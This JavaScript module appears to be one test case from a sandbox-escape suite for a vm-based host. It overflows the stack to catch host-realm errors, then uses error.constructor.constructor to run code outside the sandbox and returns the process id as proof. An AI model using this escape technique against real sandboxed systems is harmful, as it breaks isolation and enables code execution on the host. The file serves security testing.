// Overflows the stack inside an async function, where the host makes the error of the rejection.
// Class: errors
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
module.exports = async function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  const caught = [];
  function dig() {
    try {
      dig();
    } catch {
      // the end of the stack: go back a little
    }
    if (caught.length < 100) {
      try {
        setTimeout(() => {}, 1);
      } catch (error) {
        caught.push(error);
      }
    }
  }
  dig();
  for (const error of caught) {
    try {
      return { payload: 'ESCAPED:' + error.constructor.constructor('return process.pid')() };
    } catch {
      // an error of the hook's own realm
    }
  }
  return { payload: data.payload };
};
